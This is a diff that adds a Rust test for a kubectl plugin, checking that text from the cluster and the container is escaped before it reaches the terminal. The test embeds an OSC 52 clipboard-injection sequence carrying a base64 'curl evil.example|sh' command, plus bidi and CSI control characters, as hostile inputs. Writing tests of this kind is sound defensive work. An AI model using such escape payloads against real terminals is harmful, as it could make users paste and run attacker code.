@@ -920,6 +920,84 @@ fn interrupted_it_still_removes_tsnap_from_the_container() {
     );
 }
 
+/// OSC 52: a terminal that obeys it puts `curl evil.example|sh` into the clipboard.
+const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07";
+
+/// Fails if `text` (what the plugin printed on `stream`) holds a byte or character a terminal
+/// would act on: a control byte but newline and tab, a C1 control, a bidi control.
+fn nothing_for_a_terminal(text: &str, stream: &str) {
+    let bad = text.chars().find(|&c| {
+        (c.is_control() && c != '\n' && c != '\t') || ('\u{202a}'..='\u{202e}').contains(&c)
+    });
+    assert_eq!(bad, None, "{stream}: {text:?}");
+}
+
+#[test]
+fn what_the_cluster_and_the_pod_say_is_escaped_before_it_is_printed() {
+    // The node's architecture, as the container's uname answers it, in the error message.
+    let k = Cluster::new();
+    k.with_tar(&format!("tsnap-probe ok x86_64{OSC52} /tmp/tsnap.Ab3dE9\n"));
+    let out = k.run(&["web-0"]);
+    assert_eq!(out.status, 1, "{}", out.stderr);
+    nothing_for_a_terminal(&out.stderr, "stderr");
+    holds(
+        &out.stderr,
+        "container app runs on x86_64\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07, and there is no",
+    );
+
+    // kubectl's own message, and the names of the pod's containers.
+    let k = Cluster::new();
+    let message = format!("Error from server (NotFound): pods \"web\u{202e}0{OSC52}\" not found\n");
+    k.answer("pod", "", &message, 1);
+    let out = k.run(&["web-0"]);
+    assert_eq!(out.status, 1);
+    nothing_for_a_terminal(&out.stderr, "stderr");
+    holds(&out.stderr, "pods \"web\\u{202e}0\\x1b]52;c;");
+    let k = Cluster::new();
+    let evil = format!("side{OSC52}");
+    k.pod("Running", &[&evil, "app"], &[&evil, "app"]);
+    k.answer("probe", "", NO_SHELL, 1);
+    let out = k.run(&["web-0"]);
+    nothing_for_a_terminal(&out.stderr, "stderr");
+    holds(
+        &out.stderr,
+        "the pod has 2 containers: looking into side\\x1b]52;c;",
+    );
+
+    // What comes out of the container (whose /tmp its user may write: the binary run there
+    // may not be tsnap), on both streams, with its exit status.
+    let k = Cluster::new();
+    k.with_tar(PROBE_OK)
+        .answer("tsnap", "", &format!("warning{OSC52}\n"), 3);
+    std::fs::write(k.dir.0.join("tsnap.out"), b"row \xff\xc2\x9b\x1b[2J\tend\n").unwrap();
+    let out = k.run(&["web-0"]);
+    assert_eq!(out.status, 3, "{}", out.stderr);
+    nothing_for_a_terminal(&out.stdout, "stdout");
+    nothing_for_a_terminal(&out.stderr, "stderr");
+    assert_eq!(out.stdout, "row \\xff\\u{9b}\\x1b[2J\tend\n");
+    holds(
+        &out.stderr,
+        "warning\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\n",
+    );
+
+    // An ephemeral container's logs, and the kubelet's message about it.
+    let k = Cluster::new();
+    k.distroless(&format!("threads: 1{OSC52}\n"), 0);
+    let out = succeeded(k.run(&["web-0", "--image", IMAGE]));
+    nothing_for_a_terminal(&out.stdout, "stdout");
+    holds(&out.stdout, "threads: 1\\x1b]52;c;");
+    let k = Cluster::new();
+    k.distroless("", 0);
+    let waiting =
+        format!("waiting\tErrImagePull\tpull failed{OSC52}\u{2066}\nrunning\t\nterminated\t\n");
+    k.answer("state.1", &waiting, "", 0);
+    let out = k.run(&["web-0", "--image", IMAGE]);
+    assert_eq!(out.status, 1);
+    nothing_for_a_terminal(&out.stderr, "stderr");
+    holds(&out.stderr, "ErrImagePull: pull failed\\x1b]52;c;");
+    holds(&out.stderr, "\\u{2066}");
+}
+
 #[test]
 fn scripts_are_shellcheck_clean() {
     let sh = ["scripts/kubectl-tsnap", "tests/plugin/kubectl"];
